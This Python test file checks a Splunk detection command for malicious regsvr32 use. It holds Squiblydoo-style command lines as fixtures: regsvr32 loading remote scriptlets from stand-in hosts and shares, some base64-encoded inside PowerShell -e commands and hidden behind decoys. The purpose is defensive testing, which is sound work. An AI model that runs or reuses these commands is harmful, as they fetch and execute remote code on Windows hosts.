"""docs/failure-behaviour.md, through the real protocol: each input that could lose rows, end a
search without a message or pass garbage on, sent as splunkd would send it.

Floors: no input here loses a row outside the bad chunk itself, and none ends a search without a
message in the job inspector."""
import base64
import csv
import glob
import io
import json
import os
import re
import shutil
import subprocess

import pytest

from regsvr32_detector import OUTPUT_FIELDS
from support import chunked
from support.allowlists import HEADER
from support.dashboard_data import entities
from support.samples import BENIGN, MALICIOUS
from test_hostile_text import PY39CSV


def _python(version):
    """A working pythonX.Y: on PATH, or installed by pyenv but not selected."""
    for path in [shutil.which("python" + version)] + sorted(
            glob.glob(os.path.expanduser("~/.pyenv/versions/%s.*/bin/python%s" % (version, version)))):
        if path and subprocess.run([path, "-c", "pass"], stderr=subprocess.DEVNULL).returncode == 0:
            return path
    return None


PY39, PY313 = _python("3.9"), _python("3.13")
# Splunk 9 runs the command on 3.9 (whose csv reader rejects NUL), Splunk 10 on 3.13.
RUNTIMES = [
    pytest.param({}, id="this-python"),
    pytest.param({"wrapper": PY39CSV}, id="python3.9-csv-simulated"),
    pytest.param({"python": PY39}, id="python3.9", marks=pytest.mark.skipif(not PY39, reason="no 3.9")),
    pytest.param({"python": PY313}, id="python3.13", marks=pytest.mark.skipif(not PY313, reason="no 3.13")),
]


def numbered(rows, start=0):
    return [dict(r, seq=str(start + i)) for i, r in enumerate(rows)]


def assert_all_back(result, sent):
    assert result.returncode == 0, result.stderr[-2000:]
    rows = result.rows
    assert [r["seq"] for r in rows] == [r["seq"] for r in sent]
    for want, got in zip(sent, rows):
        assert {k: got.get(k) for k in want} == want
        assert got["regsvr32_error"] == ""


# --- item 5: a __mv_ column of a field that is itself named __mv_x -------------------------------
def test_a_row_always_matches_its_header():
    session = chunked.Session()
    try:
        session.start()
        meta, body = session.execute([], body=b"x,__mv_x,__mv___mv_x\r\na,,$b$;$c$\r\n")
        session.execute([MALICIOUS], finished=True)
        result = session.close()
    finally:
        session.kill()
    # splunklib's own answer: x, then the field __mv_x (b, c), each with its __mv_ column.
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert len(row) == len(header) == 20
    assert row[:4] == ["a", "", "b\nc", "$b$;$c$"] and row[header.index("regsvr32_score")] == "0"
    assert result.returncode == 0 and len(chunked.from_csv(result.replies[1][1])) == 1


# --- item 7: NUL with most private-use characters taken -----------------------------------------
@pytest.mark.parametrize("runtime", RUNTIMES)
def test_nul_beside_every_character_from_u_e000_up(runtime):
    # A stand-in for NUL is sought among U+E000 and up: with every one of them in the chunk,
    # one must still be found (not StopIteration).
    every = "".join(map(chr, range(0xE000, 0x110000)))
    sent = numbered([BENIGN, dict(BENIGN, note="\0" + every + "\0"), dict(MALICIOUS, note="\ue000\0\ue0000")])
    after = numbered([MALICIOUS], 3)
    result = chunked.run([], [sent, after], **runtime)
    assert_all_back(result, sent + after)


@pytest.mark.parametrize("runtime", RUNTIMES[:2])
def test_nul_late_in_a_big_chunk_of_distinct_characters(runtime):
    # 30,000 distinct characters from U+E000 and a NUL late in an 8.9 MB chunk: the stand-in is
    # found in one pass, not one scan of the chunk per candidate (21.9 s); the time is the
    # benchmark's.
    filler = [dict(BENIGN, note="x" * 4000) for _ in range(2000)]
    sent = numbered(filler + [dict(BENIGN, note="".join(map(chr, range(0xE000, 0xE000 + 30000))) + "\0")])
    result = chunked.run([], [sent], **runtime)
    assert_all_back(result, sent)


# --- item 10: whole chunks lost ---------------------------------------------------------------------
@pytest.mark.parametrize("runtime", RUNTIMES)
def test_a_field_over_10_mb_costs_nothing(runtime):
    # splunklib's csv field limit is 10 MB; a bigger field ended the search with its whole chunk.
    sent = numbered([MALICIOUS, dict(BENIGN, blob="y" * (10 * 1024 * 1024 + 5)), BENIGN])
    after = numbered([MALICIOUS], 3)
    result = chunked.run([], [sent, after], **runtime)
    assert_all_back(result, sent + after)


@pytest.mark.parametrize("args", [[], ["mode=filter", "min_score=0"]])
def test_cr_only_line_ends_are_line_ends(args):
    body = chunked.to_csv(numbered([dict(MALICIOUS, note="a\rb"), BENIGN]), chunked.PYTHON).replace(b"\r\n", b"\r")
    assert b"\n" not in body
    session = chunked.Session(args)
    try:
        session.start()
        meta, reply = session.execute([], body=body)
        session.execute([dict(BENIGN, seq="2")], finished=True)
        result = session.close()
    finally:
        session.kill()
    rows = chunked.from_csv(reply)
    assert [r["seq"] for r in rows] == ["0", "1"] and rows[0]["note"] == "a\rb"
    assert int(rows[0]["regsvr32_score"]) > 0
    assert result.returncode == 0 and [r["seq"] for r in result.rows] == ["0", "1", "2"]


def test_a_body_cut_short_is_said_not_processed():
    session = chunked.Session()
    try:
        session.start()
        session.execute([MALICIOUS])
        whole = chunked.frame({"action": "execute", "finished": True}, chunked.to_csv([MALICIOUS, BENIGN]))
        session.proc.stdin.write(whole[:-40])        # splunkd went away mid-chunk
        session.proc.stdin.close()
        reply = chunked.read_frame(session.proc.stdout)
        returncode = session.proc.wait(timeout=60)
    finally:
        session.kill()
    meta, body = reply
    assert body == b"" and returncode != 0
    (error,) = [text for level, text in meta["inspector"]["messages"] if level == "ERROR"]
    assert "ended" in error and "mid-chunk" in error and "not processed" in error


def test_a_frame_header_that_is_not_one_is_said():
    session = chunked.Session()
    try:
        session.start()
        session.proc.stdin.write(b"chunked 1.0,x,y\n")
        session.proc.stdin.close()
        meta, body = chunked.read_frame(session.proc.stdout)
    finally:
        session.kill()
    assert body == b""
    assert any("chunk header" in text for level, text in meta["inspector"]["messages"] if level == "ERROR")


def test_100k_bad_allowlist_rows_give_a_handful_of_warnings(app_copy):
    bad = "R32-999,*\\regsvr32.exe,,,,,,,,,,no such rule,,\n"
    (app_copy / "lookups" / "regsvr32_allowlist_local.csv").write_text(HEADER + bad * 100000, encoding="utf-8")
    result = chunked.run([], [[MALICIOUS]], script=str(app_copy / "bin" / "regsvr32detect.py"))
    warnings = result.texts("WARN")
    assert len(warnings) == 21 and "99980 more allowlist problems not shown" in warnings[-1]
    assert all("regsvr32_allowlist_local.csv:" in w for w in warnings[:20])
    assert result.returncode == 0 and len(result.rows) == 1


@pytest.mark.parametrize("text", ["", "[loggers]\nkeys = nope\n", "\x00\xff garbage"])
def test_a_broken_local_logging_conf_is_said_and_the_shipped_one_used(app_copy, tmp_path, text):
    home = tmp_path / "splunk"
    (home / "var" / "log" / "splunk").mkdir(parents=True)
    (app_copy / "local").mkdir()
    (app_copy / "local" / "regsvr32detect.logging.conf").write_text(text, encoding="latin-1")
    env = dict(os.environ, SPLUNK_HOME=str(home))
    result = chunked.run(["mode=filter"], [[MALICIOUS, BENIGN]], env=env,
                         script=str(app_copy / "bin" / "regsvr32detect.py"))
    assert result.returncode == 0 and len(result.rows) == 1, result.stderr[-2000:]
    (warning,) = result.texts("WARN")
    assert "local/regsvr32detect.logging.conf cannot be used" in warning
    log = (home / "var" / "log" / "splunk" / "regsvr32detect.log").read_text(encoding="utf-8")
    assert "mode=filter" in log


def test_a_search_writes_no_bytecode_into_the_app(tmp_path):
    # splunkd runs "python3 regsvr32detect.py" without -B: every module the command imports
    # (its own and the vendored splunklib) would leave a .pyc in the app's bin/ otherwise.
    from conftest import APP
    copy = tmp_path / "regsvr32detect"
    shutil.copytree(APP, str(copy), ignore=shutil.ignore_patterns("local", "__pycache__", "*.pyc"))
    home = tmp_path / "splunk"
    (home / "var" / "log" / "splunk").mkdir(parents=True)
    env = dict((k, v) for k, v in os.environ.items() if k not in ("PYTHONDONTWRITEBYTECODE", "PYTHONPYCACHEPREFIX"))
    env["SPLUNK_HOME"] = str(home)
    result = chunked.run([], [[MALICIOUS, BENIGN]], env=env, script=str(copy / "bin" / "regsvr32detect.py"))
    assert result.returncode == 0 and len(result.rows) == 2, result.stderr[-2000:]
    assert result.rows[0]["regsvr32_score"] != "0"
    written = [os.path.relpath(os.path.join(d, n), str(copy)) for d, dirs, files in os.walk(str(copy))
               for n in dirs + files if n == "__pycache__" or n.endswith((".pyc", ".pyo"))]
    assert written == []


# --- a tstats row without a user: no risk to a user named after the fill value -----------------
def _tstats_rows(stanza, rows):
    """The pipes of a saved search up to the command, modelled: tstats fills each missing by-field
    with its fillnull_value (as written), then any macro piped in before the command runs."""
    from test_conf import conf
    macros, search = conf("macros.conf"), conf("savedsearches.conf")[stanza]["search"]
    options = macros["regsvr32_summariesonly"]["definition"]
    fill = re.search(r'fillnull_value=("[^"]*"|\S+)', options).group(1).strip('"')
    by = macros["regsvr32_process_fields"]["definition"].split()
    rows = [dict((f, row.get(f, fill)) for f in by) for row in rows]
    head = search[:search.index("| regsvr32detect")].replace(
        "`regsvr32_process_starts`", macros["regsvr32_process_starts"]["definition"])
    assert head.startswith("| tstats `regsvr32_summariesonly`"), head
    for name in re.findall(r"\|\s*`(\w+)`", head):
        definition = macros[name]["definition"]
        if "edr" in name:
            continue                    # EDR rows: none here
        # foreach Processes.* [eval <<FIELD>>=if('<<FIELD>>'=="<value>", null(), '<<FIELD>>')]
        m = re.match(r"foreach (\S+) \[eval <<FIELD>>=if\('<<FIELD>>'==\"([^\"]*)\", null\(\), "
                     r"'<<FIELD>>'\)\]$", definition)
        assert m, "not modelled: %s = %s" % (name, definition)
        prefix, placeholder = m.group(1).rstrip("*"), m.group(2)
        rows = [dict((k, v) for k, v in r.items() if not (k.startswith(prefix) and v == placeholder))
                for r in rows]
    return rows


def test_a_tstats_row_without_user_or_host_gives_no_risk_object():
    from support.events import cim
    from test_conf import conf
    saved = conf("savedsearches.conf")
    stanza = next(s for s in saved.sections() if "`regsvr32_process_starts`" in saved[s]["search"]
                  and "R32-001" in saved[s]["search"])
    attack = "regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll"
    full = cim(attack, prefix="Processes.")
    bare = cim(attack, user=None, dest=None, cwd=None, prefix="Processes.")
    result = chunked.run(["mode=filter"], [_tstats_rows(stanza, [full, bare])])
    assert result.returncode == 0 and len(result.rows) == 2, result.stderr[-2000:]
    # the verdict of a row whose fields were not logged is the one of the same row without them
    alone = chunked.run(["mode=filter"], [[bare]]).rows
    assert [r["regsvr32_score"] for r in result.rows] == [alone[0]["regsvr32_score"]] * 2
    risk = json.loads(saved[stanza]["action.risk.param._risk"])
    objects = [r["risk_object_field"] for r in risk if "risk_object_field" in r]
    assert {"user", "dest"} <= set(objects)
    for row, want in zip(result.rows, ({"user": full["Processes.user"], "dest": "WS01"}, {})):
        row = dict((k[len("Processes."):] if k.startswith("Processes.") else k, v) for k, v in row.items())
        entities(row)
        got = dict((f, row[f]) for f in objects if row.get(f))
        assert got == want, got


# --- reliability: which reader reads a row ----------------------------------------------------
SQUIBLYDOO = "regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll"
REGSVR32_PATH = "C:\\Windows\\System32\\regsvr32.exe"
ECS_START = {"process.executable": REGSVR32_PATH, "process.command_line": SQUIBLYDOO,
             "process.parent.executable": "C:\\Windows\\explorer.exe", "host.name": "ws1"}


@pytest.mark.parametrize("args", [[], ["mode=filter"]])
def test_no_selector_value_vetoes_a_reader_and_an_unread_row_says_so(args):
    # Neither a placeholder selector (fillnull's ActionType=N/A on a Sysmon row) nor another
    # vendor's selector (SentinelOne's event.type on an Elastic Defend process start,
    # event.type=start) may veto a reader: such rows would pass with score 0, silently.
    read = numbered([
        dict(MALICIOUS, ActionType="N/A"), dict(MALICIOUS, event_simpleName="-"),
        dict(MALICIOUS, **{"event.type": "null"}),
        dict(ECS_START, **{"event.category": ["process"], "event.type": ["start", "process_start"]}),
        dict(ECS_START, **{"event.category": "process", "event.type": "info"}),
        dict(ECS_START, **{"event.category{}": ["process"], "event.type": "start"}),
        dict(ECS_START, **{"event.category": ["host", "process"], "event.type": ["start"]}),
    ])
    unread = numbered([dict(ECS_START, **{"event.category": "N/A", "event.type": "start"}),
                       {"ActionType": "null", "FolderPath": REGSVR32_PATH, "ProcessCommandLine": SQUIBLYDOO}],
                      len(read))
    benign = numbered([BENIGN], len(read) + len(unread))
    result = chunked.run(args, [read + unread + benign])
    assert result.returncode == 0, result.stderr[-2000:]
    rows = dict((r["seq"], r) for r in result.rows)
    for row in read:
        got = rows[row["seq"]]
        assert "R32-001" in got["regsvr32_rules"] and got["regsvr32_error"] == "", row
    for row in unread:
        got = rows[row["seq"]]
        assert got["regsvr32_score"] == "0", row
        assert got["regsvr32_error"].startswith("no reader for this row: regsvr32 is in "), got
    assert (benign[0]["seq"] in rows) == (args == [])


def test_paths_as_windows_logs_write_them_and_unknown_folders():
    # \??\C:\Windows\System32\regsvr32.exe, %SystemRoot%\..., \SystemRoot\..., Sysnative and
    # Defender's FolderPath=null (not a folder called null) are regsvr32's own folders or an
    # unknown one, never "regsvr32.exe running from an unexpected folder" (R32-020, high).
    safe = "regsvr32 /s C:\\Windows\\System32\\msxml6.dll"
    images = ["\\??\\C:\\Windows\\System32\\regsvr32.exe", "\\\\?\\C:\\Windows\\SysWOW64\\regsvr32.exe",
              "%SystemRoot%\\System32\\regsvr32.exe", "%windir%\\SysWOW64\\regsvr32.exe",
              "\\SystemRoot\\System32\\regsvr32.exe", "C:\\Windows\\Sysnative\\regsvr32.exe"]
    home = numbered([dict(BENIGN, Image=image, CommandLine=safe, ParentImage="C:\\Windows\\explorer.exe")
                     for image in images]
                    + [{"ActionType": "ProcessCreated", "FolderPath": folder, "FileName": "regsvr32.exe",
                        "ProcessCommandLine": safe} for folder in ("null", "N/A", "")])
    away = numbered([dict(BENIGN, Image="\\??\\C:\\Users\\Public\\regsvr32.exe", CommandLine=safe)], len(home))
    result = chunked.run([], [home + away])
    assert result.returncode == 0, result.stderr[-2000:]
    rows = result.rows
    assert [r["seq"] for r in rows] == [r["seq"] for r in home + away]
    for row in rows[:len(home)]:
        assert "R32-020" not in row["regsvr32_rules"] and row["regsvr32_error"] == "", row
    assert "R32-020" in rows[-1]["regsvr32_rules"]


@pytest.mark.parametrize("args", [[], ["mode=filter"]])
def test_every_value_of_a_multivalue_field_is_judged(args):
    # Every value of a multivalue field counts: a benign first command line (or image, or
    # parent) must not hide what comes after it. Lists travel with their __mv_ columns, as from
    # splunkd.
    safe = "regsvr32 /s C:\\Windows\\System32\\msxml6.dll"
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    sent = numbered([
        dict(MALICIOUS, CommandLine=[safe, MALICIOUS["CommandLine"]]),
        dict(BENIGN, Image=REGSVR32_PATH, CommandLine=safe,
             ParentImage=["C:\\Windows\\explorer.exe", word]),
        dict(BENIGN, Image=[REGSVR32_PATH, "C:\\Users\\Public\\regsvr32.exe"], CommandLine=safe),
        dict(ECS_START, **{"event.code": "1", "process.command_line": [safe, SQUIBLYDOO]}),
        dict(BENIGN, Image=REGSVR32_PATH, CommandLine=[safe, safe + " "]),
    ])
    result = chunked.run(args, [sent + numbered([BENIGN] * 20, len(sent))])
    assert result.returncode == 0, result.stderr[-2000:]
    rows = dict((r["seq"], r) for r in result.rows)
    for row, rule, which in zip(sent, ["R32-001", "R32-015", "R32-020", "R32-001"],
                                ["CommandLine value 2 of 2", "ParentImage value 2 of 2", "Image value 2 of 2",
                                 "process.command_line value 2 of 2"]):
        got = rows[row["seq"]]
        assert rule in got["regsvr32_rules"] and got["regsvr32_error"] == "", got
        (note,) = [r for r in got["regsvr32_reasons"] if r.startswith("multivalue: this verdict is for ")]
        assert which in note, note
        for name, value in row.items():      # the row itself passes as it came
            assert got[name] == value, name
    assert (sent[-1]["seq"] in rows) == (args == [])


@pytest.mark.parametrize("args", [[], ["mode=filter"]])
def test_a_renamed_copy_or_encoded_powershell_is_not_skipped_unread(args):
    # The cheap test (and the byte-level path after it) must not let these rows by unread, since
    # the rules flag them: a renamed regsvr32 (4688: no OriginalFileName) fetching its scriptlet
    # over a share or a quoted URL, or naming scr""obj.dll, and PowerShell's /e and en-dash -e.
    renamed = {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe",
               "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"}
    lines = ["jabber.exe /s /u /i:\\\\10.1.2.3\\share\\a.sct x.dll",
             "jabber.exe /s /u /i://10.1.2.3/share/a.sct x.dll",
             "jabber.exe /s /u /i:\\\\files@SSL\\DavWWWRoot\\a.sct x.dll",
             'jabber.exe /s /u /i:"http://files.example/a.sct" x.dll',
             "jabber.exe /s /u /i:\\??\\UNC\\files\\share\\a.sct x.dll",
             'jabber.exe /s /u /i:C:\\Users\\Public\\a.sct "scr""obj.dll"']
    encoded = "cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA=="
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    flagged = numbered([dict(renamed, CommandLine=line) for line in lines]
                       + [dict(BENIGN, Image=shell, CommandLine="powershell.exe %s %s" % (switch, encoded))
                          for switch in ("/enc", "\u2013e", "-ec")])
    benign = numbered([BENIGN] * 200, len(flagged))
    result = chunked.run(args, [benign[:100] + flagged + benign[100:]])
    assert result.returncode == 0, result.stderr[-2000:]
    rows = dict((r["seq"], r) for r in result.rows)
    for row in flagged:
        got = rows[row["seq"]]
        assert int(got["regsvr32_score"]) >= 20 and got["regsvr32_error"] == "", (row, got)
    assert "R32-019" in rows[flagged[0]["seq"]]["regsvr32_rules"]
    assert "R32-045" in rows[flagged[-1]["seq"]]["regsvr32_rules"]
    assert len(rows) == (len(flagged) + len(benign) if args == [] else len(flagged))


def _b64(text):
    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")


# PowerShell running Squiblydoo, behind decoys: encoded commands that decode to nothing of regsvr32
# (long enough to be decoded), in a folder name of the parent (a legal one: no / or + in them) and
# as the earlier actions of a scheduled task.
SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
DECOYS = ["-e " + _b64("Write-Output %d" % i) for i in range(12)]
HIDDEN_SQUIBLYDOO = [
    {"EventCode": "1", "Image": SHELL, "CommandLine": "powershell.exe -nop -e " + _b64(SQUIBLYDOO),
     "ParentImage": "C:\\Users\\bob\\%s\\launcher.exe" % " ".join(DECOYS)},
    {"EventCode": "4698", "TaskName": "\\Updater", "TaskContent": "<Actions>%s</Actions>" % "".join(
        "<Exec><Command>powershell.exe</Command><Arguments>-NoP %s</Arguments></Exec>" % a
        for a in DECOYS + ["-ec " + _b64(SQUIBLYDOO)])},
]


@pytest.mark.parametrize("args", [[], ["mode=filter"]])
def test_a_verdict_depends_on_neither_column_order_nor_other_rows(args):
    # Neither the header's order nor decoys count: eight encoded commands before the real one
    # (in a parent's folder name, in a task's earlier actions) must not hide an encoded
    # Squiblydoo, whether the cheap test or the rules read it, and a row must score as it does
    # alone (80) after a clean row whose header puts ParentImage first (not 0, and not dropped
    # in filter mode). Each attack row alone, and after a clean row of each header order.
    def clean(first):
        row = {"ParentImage": "C:\\Windows\\explorer.exe", "EventCode": "1",
               "Image": "C:\\Windows\\System32\\notepad.exe", "CommandLine": "notepad.exe",
               "TaskContent": ""}
        return dict([(first, row.pop(first))] + list(row.items()))
    for attack in HIDDEN_SQUIBLYDOO:
        alone = chunked.run(args, [[dict(attack, seq="1")]])
        assert alone.returncode == 0, alone.stderr[-2000:]
        (want,) = alone.rows
        assert int(want["regsvr32_score"]) >= 80 and "R32-045" in want["regsvr32_rules"], want
        for first in ("ParentImage", "TaskContent", "CommandLine"):
            for chunks in ([[dict(clean(first), seq="0"), dict(attack, seq="1")]],
                           [[dict(clean(first), seq="0")], [dict(attack, seq="1")]]):
                result = chunked.run(args, chunks)
                assert result.returncode == 0, result.stderr[-2000:]
                got = dict((r["seq"], r) for r in result.rows)
                assert ("0" in got) == (args == []), got.keys()
                assert {k: got["1"][k] for k in OUTPUT_FIELDS} == {k: want[k] for k in OUTPUT_FIELDS}, (first, chunks)
